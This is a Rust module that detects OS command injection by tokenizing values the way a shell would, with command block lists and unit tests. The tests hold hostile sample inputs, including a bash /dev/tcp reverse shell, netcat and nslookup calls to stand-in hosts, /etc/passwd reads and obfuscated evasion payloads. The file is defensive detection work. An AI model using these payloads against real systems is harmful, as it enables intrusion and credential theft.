//! OS command injection: a small shell tokenizer.
//!
//! A finding needs a *command context* — a separator (`;`, `|`, `||`, `&`,
//! `&&`, a newline) or a substitution (`$(`, a backtick) — followed by a
//! known command word, followed by shell-shaped evidence: the end of the
//! value, more shell syntax (`|`, `>`, `;`, `)`, ...), or a first argument
//! that looks like an option, a path, a variable, an IP address or a number
//! that ends the command. "Cat lovers welcome; dogs too" has a separator and
//! a command-ish word but no such evidence, so prose stays clean.
//!
//! The command word is read the way a shell would: quotes and backslashes
//! inside it are dropped (`c'a't`, `w"h"oami`, `c\at`), `$@`/`$*` vanish
//! (`who$@ami`), `${IFS}`/`$IFS$9` act as whitespace, `{cat,/etc/passwd}`
//! brace lists are split on the comma, and `/bin/cat` is reduced to `cat`.
//! A slash path made of glob characters (`/???/c?t`) is reported on its own.

use crate::profile::Profile;

/// Unix commands (matched case-sensitively).
const UNIX_COMMANDS: &[&str] = &[
    "awk", "base64", "bash", "busybox", "cat", "chmod", "chown", "cp", "crontab", "csh", "curl",
    "dash", "dig", "echo", "env", "eval", "exec", "find", "ftp", "gawk", "head", "hostname", "id",
    "ifconfig", "kill", "killall", "ksh", "less", "ls", "lua", "mkfifo", "mknod", "more", "nc",
    "ncat", "netcat", "netstat", "nl", "node", "nohup", "nslookup", "od", "perl", "php", "ping",
    "printenv", "printf", "ps", "pwd", "python", "python2", "python3", "rm", "ruby", "scp", "sh",
    "sleep", "socat", "sort", "su", "sudo", "tac", "tail", "tcsh", "telnet", "tftp", "timeout",
    "touch", "uname", "useradd", "wget", "whoami", "xargs", "xterm", "xxd", "zsh",
];

/// Windows commands (matched case-insensitively, with or without `.exe`).
const WINDOWS_COMMANDS: &[&str] = &[
    "bitsadmin",
    "certutil",
    "cmd",
    "cscript",
    "dir",
    "echo",
    "hostname",
    "ipconfig",
    "mshta",
    "net",
    "netsh",
    "nslookup",
    "ping",
    "powershell",
    "pwsh",
    "reg",
    "regsvr32",
    "rundll32",
    "shutdown",
    "systeminfo",
    "tasklist",
    "timeout",
    "type",
    "whoami",
    "wmic",
    "wscript",
];

/// Commands whose names are not English words: any argument after them is
/// evidence (`;nslookup evil.example`, `& powershell IEX(...)`).
const UNAMBIGUOUS: &[&str] = &[
    "bitsadmin",
    "busybox",
    "certutil",
    "crontab",
    "cscript",
    "ifconfig",
    "ipconfig",
    "mkfifo",
    "mshta",
    "ncat",
    "netcat",
    "netsh",
    "nslookup",
    "powershell",
    "printenv",
    "pwsh",
    "regsvr32",
    "rundll32",
    "socat",
    "systeminfo",
    "tasklist",
    "uname",
    "useradd",
    "whoami",
    "wmic",
    "wscript",
    "xterm",
];

/// Commands that run another command: `busybox nc`, `sudo cat`.
const WRAPPERS: &[&str] = &[
    "busybox", "env", "exec", "nohup", "su", "sudo", "timeout", "xargs",
];

/// Subcommands that make a Windows command unambiguous (`net user`).
const WINDOWS_SUBCOMMANDS: &[&str] = &[
    "accounts",
    "add",
    "delete",
    "export",
    "group",
    "localgroup",
    "query",
    "session",
    "share",
    "start",
    "stop",
    "use",
    "user",
    "view",
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Context {
    /// `;`, `|`, `||`, `&`, `&&`.
    Separator,
    /// A line break: the end of the value counts as evidence only when the
    /// text before it is a single token (`127.0.0.1\nid`), not a sentence.
    Newline { single_token_before: bool },
    /// `$(`.
    Substitution,
    /// An opening backtick. In a value that reads as prose (`in_prose`:
    /// three or more words outside backtick spans), a span holding just a
    /// command name is a Markdown code span (`use `sudo``), not evidence.
    Backtick { in_prose: bool },
}

/// Returns the rule that flags `text` as command injection, if any.
pub(crate) fn detect(text: &str, profile: Profile) -> Option<&'static str> {
    use crate::profile::{AMP, BACKTICK, DOLLAR, NEWLINE, PIPE, SEMI};
    if !profile.any(SEMI | PIPE | AMP | NEWLINE | DOLLAR | BACKTICK) {
        return None;
    }
    let bytes = text.as_bytes();
    if text.contains("/dev/tcp/") || text.contains("/dev/udp/") {
        return Some("dev_tcp");
    }
    let in_prose = bytes.contains(&b'`') && prose_outside_backticks(text);
    let mut i = 0;
    let mut backticks = 0usize;
    while let Some(&b) = bytes.get(i) {
        let (context, next) = match b {
            b';' => (Some(Context::Separator), i + 1),
            b'|' | b'&' => {
                let next = if bytes.get(i + 1) == Some(&b) {
                    i + 2
                } else {
                    i + 1
                };
                (Some(Context::Separator), next)
            }
            b'\n' | b'\r' => {
                let before = text.get(..i).unwrap_or_default().trim();
                let single_token_before = !before.contains(char::is_whitespace);
                (
                    Some(Context::Newline {
                        single_token_before,
                    }),
                    i + 1,
                )
            }
            b'`' => {
                // Backticks pair up: only an opening one starts a command
                // (in `a` type `b`, "type" sits between two spans).
                backticks += 1;
                let opening = backticks % 2 == 1;
                (opening.then_some(Context::Backtick { in_prose }), i + 1)
            }
            b'$' if bytes.get(i + 1) == Some(&b'(') => (Some(Context::Substitution), i + 2),
            _ => (None, i + 1),
        };
        if let Some(context) = context {
            if let Some(rule) = command_at(text, next, context) {
                return Some(rule);
            }
        }
        i = next;
    }
    None
}

/// Examines the command that starts at byte `start` (after a context).
fn command_at(text: &str, start: usize, context: Context) -> Option<&'static str> {
    let bytes = text.as_bytes();
    let mut pos = skip_blanks(bytes, start);
    // `;(id)`, `;{cat,/etc/passwd}`: a subshell or brace list around the command.
    let mut brace_list = false;
    while let Some(&b @ (b'(' | b'{')) = bytes.get(pos) {
        brace_list |= b == b'{';
        pos = skip_blanks(bytes, pos + 1);
    }
    let (word, has_glob, after_word) = read_word(bytes, pos);
    if word.is_empty() {
        return None;
    }
    if has_glob && word.starts_with('/') && word.matches('/').count() >= 2 {
        return Some("glob_path");
    }
    let name = command_name(&word)?;
    let mut arg_start = skip_blanks(bytes, after_word);
    if bytes.get(arg_start) == Some(&b',') {
        if !brace_list {
            // `base64,iVBOR…` in a data: URL, `echo, then…` in prose.
            return None;
        }
        arg_start = skip_blanks(bytes, arg_start + 1);
    }
    let next = bytes.get(arg_start).copied();
    let bare =
        next.is_none() || (next == Some(b'`') && matches!(context, Context::Backtick { .. }));
    let evidence = match next {
        None | Some(_) if bare => match context {
            Context::Newline {
                single_token_before,
            } => single_token_before,
            Context::Backtick { in_prose } => !in_prose,
            Context::Separator | Context::Substitution => true,
        },
        None => true,
        Some(b) if is_shell_punctuation(b) => true,
        // A quoted argument: `printf 'id'`, `cat "$f"`.
        Some(b'\'' | b'"') => true,
        Some(_) => {
            let (arg, _, after_arg) = read_word(bytes, arg_start);
            UNAMBIGUOUS.contains(&name.as_str())
                || shellish_argument(&arg, bytes, after_arg)
                || (WRAPPERS.contains(&name.as_str()) && command_name(&arg).is_some())
                || (WINDOWS_COMMANDS.contains(&name.as_str())
                    && WINDOWS_SUBCOMMANDS
                        .iter()
                        .any(|s| s.eq_ignore_ascii_case(&arg)))
        }
    };
    if !evidence {
        return None;
    }
    Some(match context {
        Context::Substitution | Context::Backtick { .. } => "substitution",
        Context::Separator | Context::Newline { .. } => "separator_command",
    })
}

/// Whether the text outside backtick spans has three or more words of two
/// or more letters.
fn prose_outside_backticks(text: &str) -> bool {
    text.split('`')
        .step_by(2)
        .flat_map(|outside| outside.split(|c: char| !c.is_alphabetic()))
        .filter(|word| word.chars().count() >= 2)
        .nth(2)
        .is_some()
}

/// The normalised command name if `word` names a known command: the
/// basename of a path (`/bin/cat`, `C:\Windows\System32\cmd.exe`), Unix
/// names as written, Windows names lower-cased without `.exe`. Backslashes
/// inside a name are shell escapes (`c\at`) unless the word is a Windows path.
fn command_name(word: &str) -> Option<String> {
    let word = strip_shell_noise(word);
    name_of(&word).or_else(|| {
        word.contains('\\')
            .then(|| name_of(&word.replace('\\', "")))
            .flatten()
    })
}

/// Removes what a shell (or `cmd.exe`) expands to nothing inside a word:
/// `$@`, `$*`, `${}`, unset variables (`$u`, `${u}`), empty backticks and
/// `cmd`'s `^` escapes. `cat$u` → `cat`, `wh``oami` → `whoami`, `who^ami` →
/// `whoami`.
fn strip_shell_noise(word: &str) -> String {
    let bytes = word.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let rest = bytes.get(i..).unwrap_or_default();
        if rest.starts_with(b"``") || rest.starts_with(b"$@") || rest.starts_with(b"$*") {
            i += 2;
        } else if rest.starts_with(b"${") {
            i += rest
                .iter()
                .position(|&c| c == b'}')
                .map_or(rest.len(), |p| p + 1);
        } else if b == b'$'
            && rest
                .get(1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        {
            i += 1 + rest
                .iter()
                .skip(1)
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
        } else if b == b'^' {
            i += 1;
        } else {
            out.push(b);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn name_of(word: &str) -> Option<String> {
    let is_path = word.starts_with(['/', '\\', '.'])
        || word.as_bytes().get(1..3) == Some(b":\\".as_slice())
        || word.as_bytes().get(1..3) == Some(b":/".as_slice());
    let base = if is_path {
        word.rsplit(['/', '\\']).next().unwrap_or(word)
    } else {
        word
    };
    if UNIX_COMMANDS.contains(&base) {
        return Some(base.to_owned());
    }
    let lower = base.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower);
    if WINDOWS_COMMANDS.contains(&lower) {
        return Some(lower.to_owned());
    }
    None
}

/// Shell characters that end a word and show shell syntax around it.
fn is_shell_punctuation(b: u8) -> bool {
    matches!(
        b,
        b';' | b'|' | b'&' | b'>' | b'<' | b')' | b'`' | b'}' | b'\n' | b'\r'
    )
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\x0b' | b'\x0c' | b'\n' | b'\r')
}

/// Length of an `$IFS` spelling at `pos` (`${IFS}`, `$IFS`, `$IFS$9`,
/// `${IFS%??}`), or 0.
fn ifs_len(bytes: &[u8], pos: usize) -> usize {
    let rest = bytes.get(pos..).unwrap_or_default();
    if rest.starts_with(b"${IFS") {
        return rest
            .iter()
            .position(|&b| b == b'}')
            .map_or(0, |close| close + 1);
    }
    if rest.starts_with(b"$IFS") {
        let mut len = 4;
        if rest.get(4) == Some(&b'$') && rest.get(5).is_some_and(u8::is_ascii_digit) {
            len += 2;
        }
        return len;
    }
    0
}

fn skip_blanks(bytes: &[u8], mut pos: usize) -> usize {
    loop {
        match bytes.get(pos) {
            Some(&b) if is_blank(b) => pos += 1,
            Some(b'$') => match ifs_len(bytes, pos) {
                0 => return pos,
                len => pos += len,
            },
            _ => return pos,
        }
    }
}

/// Reads one shell word at `pos`, dropping quotes; `$…` expansions stay in
/// the word for [`strip_shell_noise`] (an argument like `$PATH` is evidence).
/// Returns the word, whether it contains glob characters, and where it ends.
fn read_word(bytes: &[u8], mut pos: usize) -> (String, bool, usize) {
    let mut word = Vec::new();
    let mut glob = false;
    while let Some(&b) = bytes.get(pos) {
        match b {
            b'\'' | b'"' => pos += 1,
            b'$' if ifs_len(bytes, pos) > 0 => break,
            b'$' if bytes.get(pos + 1) == Some(&b'{') => {
                // `${u}` stays part of the word (see `strip_shell_noise`).
                let close = bytes
                    .get(pos..)
                    .and_then(|rest| rest.iter().position(|&c| c == b'}'))
                    .map_or(bytes.len(), |p| pos + p + 1);
                word.extend_from_slice(bytes.get(pos..close).unwrap_or_default());
                pos = close;
            }
            b'`' if bytes.get(pos + 1) == Some(&b'`') => {
                word.extend_from_slice(b"``");
                pos += 2;
            }
            b'(' | b'{' | b',' => break,
            _ if is_blank(b) || is_shell_punctuation(b) => break,
            b'?' | b'*' | b'[' => {
                glob = true;
                word.push(b);
                pos += 1;
            }
            _ => {
                word.push(b);
                pos += 1;
            }
        }
    }
    (String::from_utf8_lossy(&word).into_owned(), glob, pos)
}

/// Whether the first argument of a command looks like shell usage rather
/// than the next word of a sentence.
fn shellish_argument(arg: &str, bytes: &[u8], after_arg: usize) -> bool {
    let Some(first) = arg.chars().next() else {
        // Nothing that reads as a word (`(`, `{`): no evidence.
        return false;
    };
    if matches!(first, '-' | '/' | '\\' | '~' | '$' | '.' | '+' | '%') {
        return true;
    }
    if arg.contains(['/', '\\', ':', '=', '@', '$', '<', '>', '|']) {
        return true;
    }
    let ends_command = match bytes.get(skip_blanks(bytes, after_arg)) {
        None => true,
        Some(&b) => is_shell_punctuation(b),
    };
    let numeric = arg.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let ip_address = numeric && arg.bytes().filter(|&b| b == b'.').count() == 3;
    ip_address || (numeric && ends_command)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn detect(text: &str) -> Option<&'static str> {
        super::detect(text, Profile::of(text))
    }

    #[test]
    fn separators_and_substitutions() {
        assert_eq!(detect("; cat /etc/passwd"), Some("separator_command"));
        assert_eq!(detect("127.0.0.1 && whoami"), Some("separator_command"));
        assert_eq!(detect("x | nc 10.0.0.1 4444"), Some("separator_command"));
        assert_eq!(detect("a`id`b"), Some("substitution"));
        assert_eq!(detect("$(sleep 5)"), Some("substitution"));
        assert_eq!(detect("`id`"), Some("substitution"));
        // A Markdown code span in prose needs shell evidence inside it.
        assert_eq!(
            detect("Run `ls -la` to see hidden files"),
            Some("substitution")
        );
        assert_eq!(detect("foo\nid"), Some("separator_command"));
    }

    #[test]
    fn evasions() {
        assert_eq!(detect(";cat${IFS}/etc/passwd"), Some("separator_command"));
        assert_eq!(detect(";cat$IFS$9/etc/passwd"), Some("separator_command"));
        assert_eq!(detect(";{cat,/etc/passwd}"), Some("separator_command"));
        assert_eq!(detect(";c'a't /etc/passwd"), Some("separator_command"));
        assert_eq!(detect(";w\"h\"oami"), Some("separator_command"));
        assert_eq!(detect(";who$@ami"), Some("separator_command"));
        assert_eq!(detect(";cat$u /etc$u/passwd"), Some("separator_command"));
        assert_eq!(detect(";wh``oami"), Some("separator_command"));
        assert_eq!(detect("& who^ami"), Some("separator_command"));
        assert_eq!(detect(";$(printf 'id')"), Some("substitution"));
        assert_eq!(detect(";nslookup evil.example"), Some("separator_command"));
        assert_eq!(detect(";/???/c?t /???/p?ss??"), Some("glob_path"));
        assert_eq!(detect("; /bin/cat /etc/passwd"), Some("separator_command"));
        assert_eq!(detect("& CMD.EXE /c whoami"), Some("separator_command"));
        assert_eq!(detect("| net user"), Some("separator_command"));
        assert_eq!(detect("; busybox nc"), Some("separator_command"));
        assert_eq!(
            detect("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"),
            Some("dev_tcp")
        );
        assert_eq!(detect("x; cat \"$(printf x)\""), Some("separator_command"));
    }

    #[test]
    fn prose_is_not_a_command() {
        for benign in [
            "Cat lovers welcome; dogs too.",
            "I need to sleep 8 hours a night; ping me after.",
            "Tom & Jerry",
            "Our cat sleeps all day | our dog barks",
            "session=abc; id=42",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "$(document).ready",
            "Shopping list\ncat food\nmilk",
            "Please enter your\nid",
            "Bring snacks; bash starts at 8",
            "data:image/png;base64,iVBORw0KGgo/AAAA",
            "..;/..;/etc/passwd",
            "`Spinlock::new` is a `const` function; the `Spinlock` type",
            "block doc comments (`/** */`)",
            "CPU, so use `sudo`. We need to run the benchmark binary",
            "The performance is comparable with `find` and glibc's",
        ] {
            assert_eq!(detect(benign), None, "{benign}");
        }
    }

    #[test]
    fn unix_names_are_case_sensitive_windows_names_are_not() {
        assert_eq!(detect("Name; ID"), None);
        assert_eq!(detect("x; WhoAmI"), Some("separator_command"));
    }
}
